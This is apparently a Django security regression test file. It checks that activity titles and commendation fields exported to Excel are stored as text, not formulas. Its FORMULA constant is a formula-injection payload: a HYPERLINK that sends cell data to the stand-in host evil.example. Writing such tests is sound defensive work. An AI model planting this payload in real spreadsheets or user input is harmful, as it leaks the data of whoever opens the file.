"""Security review: weaknesses found and fixed, each pinned by a test that failed before the fix."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import Activity, ActivityKind

pytestmark = pytest.mark.django_db


# --- spreadsheet exports: user text is never a formula ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_activity_title_typed_as_a_formula_is_exported_as_text(secretary, branch_a, staff_client):
    """openpyxl writes any string starting with "=" as a formula: a secretary's title would run in
    the staff member's Excel (a link that sends the sheet's data elsewhere)."""
    Activity.objects.create(
        organization=branch_a, kind=ActivityKind.THEME_DAY, date=datetime.date(2025, 3, 5), title=FORMULA
    )
    response = staff_client.get(reverse("activities:list"), {"export": "xlsx"})
    cells = [c for c in _cells(response.content) if c.value == FORMULA]
    assert cells, "the title is in the export"
    assert all(c.data_type == "s" for c in cells)


def test_a_commendation_typed_as_a_formula_is_text_in_the_report_workbook(secretary, branch_a, staff_client):
    from members.models import Commendation, CommendationKind

    Commendation.objects.create(
        kind=CommendationKind.OUTSTANDING_MEMBER,
        person_name="=1+1",
        granted_by=branch_a,
        higher_body=FORMULA,
        date=datetime.date(2025, 6, 28),
    )
    response = staff_client.get(reverse("reports:download", args=[branch_a.pk, 2025, "xlsx"]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for c in workbook["表彰"].iter_rows() for c in c if c.value in (FORMULA, "=1+1")]
    assert len(cells) == 2
    assert all(c.data_type == "s" for c in cells)
